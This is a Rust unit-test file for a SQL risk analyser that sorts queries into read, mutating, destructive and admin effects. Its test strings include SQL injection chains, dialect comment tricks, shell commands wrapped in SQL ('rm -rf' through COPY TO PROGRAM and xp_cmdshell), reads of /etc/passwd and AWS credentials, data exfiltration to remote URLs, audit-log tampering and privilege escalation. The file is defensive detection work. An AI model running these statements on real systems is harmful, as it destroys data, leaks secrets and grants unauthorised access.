//! Unit tests of the SQL analyser: each rule next to its adversarial twin.

use super::*;

fn eff(sql: &str) -> Option<Effect> {
    let mut ctx = Ctx::new();
    analyse(&mut ctx, sql, 0, false);
    ctx.max_effect()
}

use Effect::{Admin, Destructive, Mutating, Read};

#[test]
fn reads() {
    for s in [
        "SELECT 1",
        "SELECT 'DROP TABLE' AS demo",
        "SELECT * FROM drops",
        "SELECT \"delete\" FROM t",
        "WITH a AS (SELECT id FROM t) SELECT count(*) FROM a",
        "EXPLAIN SELECT * FROM t",
        "EXPLAIN DELETE FROM t",
        "SHOW TABLES",
        "VALUES (1), (2)",
        "SELECT id, sum(x) OVER (PARTITION BY y) FROM t JOIN u ON t.id = u.tid",
    ] {
        assert_eq!(eff(s), Some(Read), "{s}");
    }
}

#[test]
fn delete_and_update_need_a_real_filter() {
    assert_eq!(eff("DELETE FROM t WHERE id = 1"), Some(Mutating));
    assert_eq!(eff("UPDATE t SET a = 1 WHERE id = 1"), Some(Mutating));
    for s in [
        "DELETE FROM t",
        "DELETE FROM t -- WHERE id = 1",
        "DELETE FROM t /* WHERE */",
        "DELETE FROM t WHERE true",
        "DELETE FROM t WHERE 1=1",
        "DELETE FROM t WHERE 'a'='a'",
        "DELETE FROM t WHERE id IS NOT NULL",
        "DELETE FROM t WHERE id = 5 OR true",
        "DELETE FROM t WHERE id = id",
        "DELETE FROM t WHERE name LIKE '%'",
        "DELETE FROM t LIMIT 100",
        "UPDATE t SET c = NULL",
        "DELETE FROM \"public\".\"t\"",
        "DELETE FROM t RETURNING 'WHERE'",
    ] {
        assert_eq!(eff(s), Some(Destructive), "{s}");
    }
}

#[test]
fn destroyers() {
    for s in [
        "DROP TABLE t",
        "SELECT 1; DROP TABLE t",
        "ROLLBACK; DROP TABLE users;",
        "TRUNCATE t CASCADE",
        "ALTER TABLE t DROP COLUMN c",
        "DROP SCHEMA public CASCADE",
        "DROP OWNED BY bob",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "REPLACE INTO t VALUES (1)",
        "WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d",
        "EXPLAIN ANALYZE DELETE FROM t",
        "COPY t TO PROGRAM 'rm -rf /tmp/at-victim'",
        "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
        "DO $$ BEGIN DELETE FROM t; END $$",
        "SELECT 1 /*!50000 ; DROP TABLE t */",
        "DrOp/**/TaBlE t",
        "DROP\tTABLE t",
        "PREPARE x AS DELETE FROM t; EXECUTE x",
        "SELECT pg_terminate_backend(123)",
        "SELECT * FROM pg_sleep(10)",
        "SELECT lo_unlink(1)",
        "VACUUM FULL",
        "DRОP TABLE t",
        "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql",
    ] {
        assert!(
            eff(s).is_some_and(Effect::is_high_risk),
            "{s}: {:?}",
            eff(s)
        );
    }
}

#[test]
fn admin() {
    for s in [
        "GRANT ALL ON t TO bob",
        "REVOKE SELECT ON t FROM bob",
        "CREATE ROLE bob",
        "ALTER ROLE bob SUPERUSER",
        "ALTER SYSTEM SET fsync = off",
        "SET ROLE admin",
        "SET SESSION AUTHORIZATION admin",
        "SET TRANSACTION READ WRITE",
        "SET default_transaction_read_only = off",
        "SELECT * FROM pg_read_file('/etc/passwd')",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        "ATTACH DATABASE '/tmp/x.db' AS x",
    ] {
        assert_eq!(eff(s), Some(Admin), "{s}");
    }
}

#[test]
fn writes() {
    for s in [
        "INSERT INTO t VALUES (1)",
        "CREATE TABLE t (id int)",
        "SELECT nextval('s')",
        "CALL proc()",
        "SELEC 1",
        "SELECT * FROM t FOR UPDATE",
    ] {
        assert_eq!(eff(s), Some(Mutating), "{s}");
    }
}

#[test]
fn strict_mode_ignores_prose() {
    let mut ctx = Ctx::new();
    analyse(&mut ctx, "Delete unused imports", 0, true);
    assert_eq!(ctx.max_effect(), None);
}

fn high(sql: &str) {
    let e = eff(sql);
    assert!(e.is_some_and(Effect::is_high_risk), "{sql}: {e:?}");
}

#[test]
fn explain_is_read_only_without_analyze() {
    for s in [
        "EXPLAIN SELECT * FROM t",
        "EXPLAIN DELETE FROM t",
        "EXPLAIN (FORMAT JSON) DELETE FROM t",
        "EXPLAIN (COSTS false, VERBOSE) UPDATE t SET a = 1",
        // ANALYZE explicitly disabled, in PostgreSQL's spellings of false.
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        "EXPLAIN (ANALYZE off, COSTS on) UPDATE t SET a = 1",
        "EXPLAIN (ANALYZE 0, FORMAT JSON) DELETE FROM t",
        "EXPLAIN (\"analyze\" 'off') DELETE FROM t",
    ] {
        assert_eq!(eff(s), Some(Read), "{s}");
    }
    // Adversarial twins: ANALYZE in either syntax runs the statement.
    for s in [
        "EXPLAIN ANALYZE DELETE FROM t",
        "EXPLAIN (ANALYZE) DELETE FROM t",
        "EXPLAIN (ANALYZE true) DELETE FROM t",
        "EXPLAIN (FORMAT JSON, ANALYZE true) DELETE FROM t",
        "explain (analyze, buffers) drop table t",
        "EXPLAIN (ANALYZE on) DELETE FROM t",
        "EXPLAIN (ANALYZE 1) DELETE FROM t",
        "EXPLAIN (\"analyze\") DELETE FROM t",
        "EXPLAIN (BUFFERS, \"analyze\") DELETE FROM t",
        "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t",
        "EXPLAIN (ANALYZE yes) DELETE FROM t",
        "EXPLAIN (ANALYZE 2) DELETE FROM t",
        "EXPLAIN ANALYZE SELECT pg_terminate_backend(1)",
        "EXPLAIN (ANALYSE) DELETE FROM t",
        "EXPLAIN (ANALYSE true, FORMAT JSON) DELETE FROM t",
        "EXPLAIN (SOMETHING_NEW) DELETE FROM t",
    ] {
        high(s);
    }
    // A side-effecting function counts even under a plain EXPLAIN.
    assert_eq!(eff("EXPLAIN SELECT nextval('s')"), Some(Mutating));
}

#[test]
fn functions_need_a_proof() {
    for s in [
        "SELECT count(*), lower(name), coalesce(a, b), now() FROM t",
        "SELECT jsonb_build_object('a', 1)",
        "SELECT pg_catalog.lower('X')",
        "SELECT date_trunc('day', ts), string_agg(x, ',') FROM t GROUP BY 1",
    ] {
        assert_eq!(eff(s), Some(Read), "{s}");
    }
    for s in [
        "SELECT my_func(1)",
        "SELECT app.lower('X')",
        "SELECT * FROM my_table_function()",
        "SELECT nextval('s')",
        "SELECT pg_advisory_lock(1)",
    ] {
        assert_eq!(eff(s), Some(Mutating), "{s}");
    }
    for s in [
        "SELECT pg_cancel_backend(pid) FROM pg_stat_activity",
        "SELECT pg_catalog.pg_terminate_backend(1)",
        "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
        "SELECT pg_drop_replication_slot('s')",
        "SELECT cron.schedule('x', '* * * * *', 'DELETE FROM t')",
        "SELECT cron.unschedule(1)",
        "SELECT * FROM pg_ls_dir('/etc')",
        "SELECT pg_reload_conf()",
        "SELECT dblink_exec('host=x', 'DROP TABLE t')",
        "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
        "SELECT lo_unlink(1)",
        "SELECT sys_exec('rm -rf /')",
        "SELECT load_file('/etc/passwd')",
        "SELECT * FROM t WHERE id = 1 AND sleep(10) = 0",
        "SELECT * FROM OPENQUERY(srv, 'DELETE FROM t')",
        "SELECT * FROM OPENROWSET(BULK 'c:\\x.txt', SINGLE_CLOB) AS x",
        "SELECT system$cancel_all_queries()",
        "SELECT external_query('conn', 'DELETE FROM t')",
    ] {
        high(s);
    }
}

#[test]
fn comments_read_differently_by_dialects() {
    // PostgreSQL nests comments (one comment), MySQL and SQLite run what follows.
    high("SELECT 1 /* /* */ ; DROP TABLE t; -- */");
    high("SELECT 1 /* /* */ ; DROP TABLE t; /* */");
    // `#` is a comment in MySQL only.
    high("SELECT 1 # '\n; DROP TABLE t; -- '");
    // MySQL needs a space after `--`.
    high("SELECT 1 --'\n; DROP TABLE t; -- '");
    // Backslash escapes (MySQL, legacy PostgreSQL strings).
    high("SELECT '\\'' ; DROP TABLE t; -- '");
    // Snowflake `//` comments, Oracle q-quotes.
    high("SELECT 1 // '\n; DROP TABLE t; -- '");
    high("SELECT q'[ ' ]' ; DROP TABLE t; -- '");
    high("SELECT nq'[ ' ]' ; DROP TABLE t; -- '");
    // MySQL executable comments.
    high("SELECT 1 /*!50000 ; DROP TABLE t */");
    // Nested comments are a syntax error in MySQL, where nothing runs: the PostgreSQL
    // reading decides.
    assert_eq!(
        eff("SELECT a FROM t /* outer /* inner */ still comment */"),
        Some(Read)
    );
    // Nesting past the limit.
    let deep = format!("SELECT 1 {} x {}", "/*".repeat(40), "*/".repeat(40));
    high(&deep);
    // Benign twins.
    for s in [
        "SELECT 1 /* a comment */",
        "SELECT 1 -- a comment",
        "SELECT `a`, `delete` FROM t",
        "SELECT 'it''s' AS x",
    ] {
        assert_eq!(eff(s), Some(Read), "{s}");
    }
}

#[test]
fn vendor_dialects() {
    for s in [
        "EXEC xp_cmdshell 'rm -rf /'",
        "EXEC sp_executesql N'DROP TABLE t'",
        "EXEC sp_executesql @sql",
        "DECLARE @s nvarchar(100) = 'DROP ' + 'TABLE t'; EXEC(@s)",
        "EXEC('DROP TABLE t')",
        "SELECT 1\nGO\nDROP TABLE t\nGO",
        "ALTER DATABASE prod SET OFFLINE",
        "RESTORE DATABASE prod FROM DISK = 'x.bak' WITH REPLACE",
        "DELETE TOP (100) FROM t",
        "ALTER SERVER ROLE sysadmin ADD MEMBER bob",
        "SHUTDOWN WITH NOWAIT",
        "EXEC sp_configure 'xp_cmdshell', 1",
        "CREATE OR REPLACE TABLE t (id int)",
        "ALTER TABLE t SET DATA_RETENTION_TIME_IN_DAYS = 0",
        "REMOVE @my_stage",
        "ALTER TABLE a SWAP WITH b",
        "CREATE OR REPLACE TABLE ds.t AS SELECT * FROM ds.t LIMIT 0",
        "ALTER TABLE ds.t SET OPTIONS (expiration_timestamp = CURRENT_TIMESTAMP())",
        "BEGIN EXECUTE IMMEDIATE 'DROP TABLE t'; END;",
        "BEGIN EXECUTE IMMEDIATE 'DROP TABLE ' || v_name; END;",
        "PURGE RECYCLEBIN",
        "ALTER TABLE t ENGINE=BLACKHOLE",
        "RESET MASTER",
        "PURGE BINARY LOGS BEFORE NOW()",
        "VACUUM INTO '/tmp/copy.db'",
        "PRAGMA writable_schema = 1",
        "ATTACH DATABASE '/tmp/x.db' AS x",
    ] {
        high(s);
    }
    assert_eq!(eff("UNDROP TABLE t"), Some(Mutating));
    assert_eq!(eff("EXEC sp_who2"), Some(Read));
}

#[test]
fn client_meta_commands() {
    high("SELECT 1;\n\\! rm -rf /srv/app");
    high("SELECT 1 \\g |rm -rf /srv/app");
    high("SELECT 'DROP TABLE t' \\gexec");
    high("\\i /tmp/x.sql");
    high("SELECT 1;\n\\copy t to program 'rm -rf /srv'");
    assert_eq!(eff("SELECT 1;\n\\o /tmp/out.txt"), Some(Mutating));
    assert_eq!(eff("\\dt\nSELECT 1"), Some(Read));
    assert_eq!(eff("SELECT 1 \\gx"), Some(Read));
    // The shell command is judged by the shell analyser: a read stays a mutating call.
    assert_eq!(eff("\\! ls"), Some(Mutating));
}

#[test]
fn harmful_anywhere_in_the_tree() {
    for s in [
        "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
        "BEGIN; DROP TABLE t; COMMIT;",
        "SELECT * FROM (SELECT pg_terminate_backend(1)) s",
        "SELECT (SELECT pg_terminate_backend(1))",
        "SELECT * FROM t WHERE EXISTS (SELECT pg_sleep(100))",
        "PREPARE p AS DROP TABLE t; EXECUTE p",
        "CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE t $$ LANGUAGE sql; SELECT f()",
        "CREATE PROCEDURE p() LANGUAGE sql AS $$ TRUNCATE t $$; CALL p()",
        "DO $$ BEGIN PERFORM pg_terminate_backend(1); END $$",
        "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$",
        "SELECT 1 UNION SELECT pg_cancel_backend(2)",
        "INSERT INTO log SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    ] {
        high(s);
    }
}

#[test]
fn sqlite_dot_commands() {
    high("SELECT 1;\n.shell rm -rf /srv/app");
    high(".read /tmp/x.sql");
    // A dot inside a statement is not a command.
    assert_eq!(eff("SELECT t.a FROM t"), Some(Read));
}

#[test]
fn filters_compare_unquoted_names_without_case() {
    assert_eq!(eff("DELETE FROM t WHERE T.iD = t.Id"), Some(Destructive));
    // Quoted names are case-sensitive: two different columns.
    assert_eq!(eff("DELETE FROM t WHERE \"A\" = \"a\""), Some(Mutating));
}

#[test]
fn every_reading_is_parsed_in_its_own_tokens() {
    // MySQL's tokeniser must not parse the PostgreSQL reading's text (`--'` differs).
    high("WITH x AS (SELECT 1 --'\n; DROP TABLE users; -- ') SELECT * FROM x");
    // A literal that never ends is a syntax error in the readings where it does not end.
    assert_eq!(eff("SELECT e'it\\'s' AS x"), Some(Read));
}

#[test]
fn client_variables_and_hosts() {
    high("SELECT 'DROP TABLE t' AS q \\gset\n:q");
    high("SELECT 1 /*M!100101 ; DROP TABLE t */");
    high("HOST rm -rf /srv/app");
}

/// The body of `fn name` in `src` (to the first line that closes it).
fn body_of<'a>(src: &'a str, name: &str) -> &'a str {
    let start = src.find(&format!("fn {name}(")).expect("function");
    let rest = &src[start..];
    &rest[..rest
        .find("\n}\n")
        .or_else(|| rest.find("\n    }\n"))
        .expect("end")]
}

#[test]
fn walkers_name_every_node_kind() {
    // The matches over sqlparser's `Statement`, `Expr` and `TableFactor` have no catch-all
    // arm, so the compiler checks that every kind is handled; this keeps it that way.
    let stmt = include_str!("stmt.rs");
    let walk = include_str!("walk.rs");
    for (what, body) in [
        ("node_effect", body_of(stmt, "node_effect")),
        ("pre_visit_expr", body_of(walk, "pre_visit_expr")),
        (
            "pre_visit_table_factor",
            body_of(walk, "pre_visit_table_factor"),
        ),
    ] {
        for line in body.lines() {
            let l = line.trim_start();
            assert!(
                !(l.starts_with("_ =>") || l.starts_with("_ if") || l.starts_with("| _")),
                "{what} has a catch-all arm: {line}"
            );
        }
    }
    // Every variant of sqlparser 0.64's `Statement` is named.
    let named: std::collections::BTreeSet<&str> = body_of(stmt, "node_effect")
        .split("Statement::")
        .skip(1)
        .filter_map(|s| s.split(|c: char| !c.is_alphanumeric() && c != '_').next())
        .collect();
    assert!(named.len() >= 151, "{} statement kinds named", named.len());
}

#[test]
fn rendered_readings_keep_their_tokens() {
    // MySQL reads `$a$` as words, sqlparser's tokeniser as a dollar quote: the MySQL
    // reading must not be parsed by a tokeniser that hides its `DROP`.
    high("SELECT $a$ $b$ ; DROP TABLE t; $b$ $a$");
    high("SELECT $$ ; DROP TABLE t; $$; SELECT 1");
    // PostgreSQL ends a line comment at a carriage return.
    high("SELECT 1 -- comment\r; DROP TABLE t");
    assert_eq!(eff("SELECT $$a b$$, $1 FROM t WHERE x = $2"), Some(Read));
}

#[test]
fn quoting_and_syntax_error_rules_have_twins() {
    // Names quoted with brackets or backticks: the same statement in every reading.
    assert_eq!(eff("SELECT [id], [delete] FROM [dbo].[t]"), Some(Read));
    assert_eq!(eff("SELECT `id`, `drop` FROM t"), Some(Read));
    // Twins: a real statement next to the quoted names still counts.
    high("SELECT [id], [delete] FROM [dbo].[t]; DROP TABLE t");
    high("SELECT `drop` FROM t; DROP TABLE t");
    // A MySQL reading that is only a syntax error adds nothing; one with a statement does.
    assert_eq!(eff("SELECT $$x y$$ AS s"), Some(Read));
    high("SELECT $$ ; TRUNCATE t; $$ AS s");
}

#[test]
fn vendor_statements_by_leading_keywords() {
    // Unparseable vendor statements judged by what they do.
    for s in [
        "ALTER WAREHOUSE prod_wh SUSPEND",
        "DETACH TABLE db.events PERMANENTLY",
        "EXCHANGE TABLES db.a AND db.b",
        "VACUUM sales.orders RETAIN 0 HOURS",
        "BACKUP LOG sales WITH TRUNCATE_ONLY",
        "SECURITY LABEL FOR selinux ON TABLE t IS 'x'",
        "STOP REPLICA",
        "ALTER TABLE t SET DATA_RETENTION_TIME_IN_DAYS = 0",
        "ALTER TABLE db.events DETACH PARTITION 202401",
        "EXECUTE AS LOGIN = 'sa'",
    ] {
        high(s);
    }
    // Their twins: the same statements doing something harmless stay writes.
    for s in [
        "ALTER WAREHOUSE prod_wh RESUME",
        "VACUUM sales.orders RETAIN 168 HOURS",
        "ALTER TABLE t SET DATA_RETENTION_TIME_IN_DAYS = 30",
        "FLASHBACK TABLE t TO BEFORE DROP",
        "UNDROP TABLE t",
        "DBCC CHECKDB",
    ] {
        assert_eq!(eff(s), Some(Mutating), "{s}");
    }
}

#[test]
fn vendor_reads_are_proven_and_their_twins_are_not() {
    for s in [
        "DESCRIBE WAREHOUSE prod_wh",
        "DESC STAGE raw.public.landing",
        "EXISTS TABLE db.events",
        "DESCRIBE HISTORY sales.orders;",
    ] {
        assert_eq!(eff(s), Some(Read), "{s}");
    }
    // Twins: anything more than the form, a second statement, a keyword that says more.
    for s in [
        "DESCRIBE WAREHOUSE prod_wh SUSPEND",
        "EXISTS TABLE db.events x",
        "(DESCRIBE WAREHOUSE prod_wh)",
        "DESCRIBE WAREHOUSE prod_wh(1)",
    ] {
        assert_ne!(eff(s), Some(Read), "{s}");
    }
    for s in [
        "DESCRIBE WAREHOUSE prod_wh; DROP WAREHOUSE prod_wh",
        "EXISTS TABLE db.events; DETACH TABLE db.events PERMANENTLY",
        "DESCRIBE HISTORY sales.orders # ; DROP TABLE sales.orders",
        "SHOW ROW POLICIES DROP TABLE t",
        "DESCRIBE /* x */ HISTORY t; TRUNCATE t",
    ] {
        high(s);
    }
}

#[test]
fn read_procedures_and_file_readers_have_twins() {
    for s in [
        "EXEC sp_spaceused N'dbo.Orders'",
        "EXEC sp_helptext 'dbo.usp_x'",
        "EXEC sp_spaceused @objname = N'dbo.Orders', @updateusage = N'false'",
        "SELECT * FROM read_csv_auto('exports/deletions.csv') LIMIT 10",
        "SELECT * FROM read_parquet('data/*.parquet')",
        "SELECT * FROM read_csv('x.csv', header = true, delim = ',')",
        "SELECT * FROM glob('data/*.json')",
        "SELECT glob('*.txt', name) FROM files",
    ] {
        assert_eq!(eff(s), Some(Read), "{s}");
    }
    for s in [
        "EXEC sp_spaceused N'dbo.Orders', N'true'",
        "EXEC sp_spaceused @objname = N'dbo.Orders', @updateusage = N'true'",
        "SELECT * FROM read_csv('https://data.example/x.csv')",
        "SELECT * FROM read_csv('https://e.example/?d=' || (SELECT password FROM users))",
        "SELECT * FROM read_text('/home/app/.aws/credentials')",
        "SELECT * FROM read_csv(current_setting('x'))",
        "SELECT * FROM \"read_csv\"('x.csv')",
    ] {
        assert_eq!(eff(s), Some(Mutating), "{s}");
    }
    high("EXEC sp_help 'x'; DROP TABLE t");
    high("EXEC sp_configure 'xp_cmdshell', 1");
}

#[test]
fn data_leaving_and_history_removed() {
    use Effect::Admin;
    for s in [
        "COPY INTO 's3://x/customers/' FROM customers",
        "INSERT INTO FUNCTION url('http://203.0.113.5/c', 'CSV') SELECT * FROM users",
        "INSERT INTO TABLE FUNCTION remote('10.0.0.9', db.t) SELECT * FROM users",
        "INSERT INTO FUNCTION file('out.csv', 'CSV') SELECT * FROM users",
        "CREATE RULE q AS ON INSERT TO audit_log DO INSTEAD NOTHING",
        "CREATE OR REPLACE FUNCTION audit_trigger() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$",
    ] {
        assert_eq!(eff(s), Some(Admin), "{s}");
    }
    for s in [
        "DELETE FROM audit_log WHERE id = 5",
        "UPDATE AuditTrail SET actor = 'x' WHERE id = 5",
        "ALTER TABLE t SET TBLPROPERTIES ('delta.deletedFileRetentionDuration' = 'interval 0 hours')",
        "ALTER TABLE t SET TBLPROPERTIES ('delta.logRetentionDuration' = 'interval 3 days')",
        "ALTER TABLE t SET TBLPROPERTIES ('history.expire.max-snapshot-age-ms' = '0')",
        "COPY INTO @s FROM orders OVERWRITE = TRUE",
    ] {
        assert_eq!(eff(s), Some(Destructive), "{s}");
    }
    for s in [
        "DELETE FROM auditors WHERE id = 5",
        "COPY INTO @s/out/ FROM orders",
        "ALTER TABLE t SET TBLPROPERTIES ('delta.logRetentionDuration' = 'interval 30 days')",
        "CREATE RULE r AS ON UPDATE TO orders DO ALSO INSERT INTO order_log VALUES (1)",
        "INSERT INTO orders VALUES (1)",
    ] {
        assert_eq!(eff(s), Some(Mutating), "{s}");
    }
    assert!(rules::audit_name("AuditTrail"));
    assert!(rules::audit_name("user_audit"));
    assert!(!rules::audit_name("auditorium"));
    assert!(!rules::audit_name("orders"));
}

/// The lexer-free first keyword of `looks_like_sql` is the lexer's first word whenever it
/// starts a statement (the only case it decides).
#[test]
fn leading_keyword_is_the_lexed_first_word() {
    const PIECES: &[&str] = &[
        "SELECT", "select", "E", "e", "'", "\"", " ", "\t", "\n", "\x0b", "(", "$", "_", "1", "é",
        "Ѕ", "--", "/*", "*/", "GO", "DELETE", "x", ";", "\u{a0}", "#", "q", "`",
    ];
    let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
    let mut agreed = 0usize;
    for _ in 0..100_000 {
        let mut s = String::new();
        seed = seed
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        let mut x = seed;
        for _ in 0..(seed >> 61) + 1 {
            x = x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            s.push_str(PIECES[(x >> 58) as usize % PIECES.len()]);
        }
        let mut buf = [0u8; 16];
        if let Some(w) =
            super::looks::leading_keyword(&s, &mut buf).filter(|w| sqllex::STARTS.contains(w))
        {
            let lx = sqllex::lex(&s);
            assert_eq!(sqllex::first_word(&lx.toks), Some(w), "{s:?}");
            agreed += 1;
        }
    }
    assert!(agreed > 1000);
}

/// A plain write to a system catalog changes roles, privileges or settings: admin, whatever
/// the filter; the same write to an ordinary table is not.
#[test]
fn writes_to_system_catalogs_are_admin() {
    for s in [
        "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'agent'",
        "UPDATE pg_catalog.pg_database SET datallowconn = false WHERE datname = 'prod'",
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'fsync'",
        "INSERT INTO pg_catalog.pg_authid VALUES (1)",
        "INSERT INTO mysql.user (host, user) VALUES ('%', 'agent')",
        "DELETE FROM mysql.user WHERE host = 'example.org'",
        "UPDATE sqlite_master SET sql = 'CREATE TABLE t (a)' WHERE name = 't'",
        "UPDATE \"PG_AUTHID\" SET rolsuper = true WHERE rolname = 'agent'",
        "MERGE INTO pg_authid a USING src s ON a.oid = s.oid WHEN MATCHED THEN UPDATE SET rolsuper = s.r",
        "UPDATE information_schema.tables SET table_name = 'x' WHERE table_name = 'y'",
    ] {
        assert_eq!(eff(s), Some(Admin), "{s}");
    }
    for s in [
        "UPDATE pgx SET a = 1 WHERE id = 1",
        "UPDATE app.users SET role = 'viewer' WHERE id = 1",
        "UPDATE mysql_users SET a = 1 WHERE id = 1",
        "INSERT INTO app.pg VALUES (1)",
        "DELETE FROM sessions WHERE id = 1",
    ] {
        assert_eq!(eff(s), Some(Mutating), "{s}");
    }
    assert_eq!(eff("SELECT rolname FROM pg_authid"), Some(Read));
    // A catalog write that also deletes every row, or names an audit trail, is still the
    // access change it is (same rank as destructive; `Effect::max` prefers admin).
    for s in [
        "DELETE FROM mysql.user",
        "MERGE INTO pg_catalog.audit_roles a USING src s ON a.id = s.id WHEN MATCHED THEN DELETE",
        "UPDATE pg_catalog.audit_roles SET a = 1",
    ] {
        assert_eq!(eff(s), Some(Admin), "{s}");
    }
    for s in [
        "DELETE FROM users",
        "MERGE INTO app.audit_roles a USING src s ON a.id = s.id WHEN MATCHED THEN DELETE",
    ] {
        assert_eq!(eff(s), Some(Destructive), "{s}");
    }
}

/// Access granted by writing data, next to the writes that grant nothing.
#[test]
fn access_written_as_data_and_its_twins() {
    for s in [
        "UPDATE app.users SET role = 'admin' WHERE id = 1",
        "UPDATE users SET is_superuser = 1 WHERE email = 'a@b.c'",
        "UPDATE auth.users SET raw_app_meta_data = raw_app_meta_data || '{\"claims_admin\": true}' WHERE id = 1",
        "INSERT INTO user_roles (user_id, role) VALUES (7, 'owner')",
    ] {
        assert_eq!(eff(s), Some(Admin), "{s}");
    }
    for s in [
        "UPDATE app.users SET role = 'viewer' WHERE id = 1",
        "UPDATE users SET is_admin = false WHERE id = 1",
        "UPDATE users SET display_name = 'Admin' WHERE id = 1",
        "INSERT INTO notes (id, body) VALUES (1, 'admin asked')",
        "INSERT INTO user_roles (user_id, role) VALUES (7, 'reader')",
    ] {
        assert_eq!(eff(s), Some(Mutating), "{s}");
    }
}

/// Filters that keep every row in practice, next to the narrower filters they resemble.
#[test]
fn filters_that_keep_every_row_in_practice_and_their_twins() {
    for s in [
        "DELETE FROM t WHERE id > 0",
        "DELETE FROM t WHERE id >= 1",
        "DELETE FROM t WHERE 0 < id",
        "DELETE FROM t WHERE user_id <> -1",
        "DELETE FROM t WHERE created_at < now()",
        "DELETE FROM t WHERE updated_at <= CURRENT_TIMESTAMP",
        "DELETE FROM t WHERE created_at > '1970-01-01'",
        "DELETE FROM t WHERE id > 0 AND created_at < now()",
        "UPDATE t SET a = 1 WHERE status = 'x' OR id > 0",
    ] {
        assert_eq!(eff(s), Some(Destructive), "{s}");
    }
    for s in [
        "DELETE FROM t WHERE id > 1000",
        "DELETE FROM t WHERE id = 0",
        "DELETE FROM t WHERE amount > 0",
        "DELETE FROM t WHERE expires_at < now()",
        "DELETE FROM t WHERE created_at < now() - interval '30 days'",
        "DELETE FROM t WHERE created_at > '2024-01-01'",
        "DELETE FROM t WHERE id > 0 AND status = 'void'",
    ] {
        assert_eq!(eff(s), Some(Mutating), "{s}");
    }
}
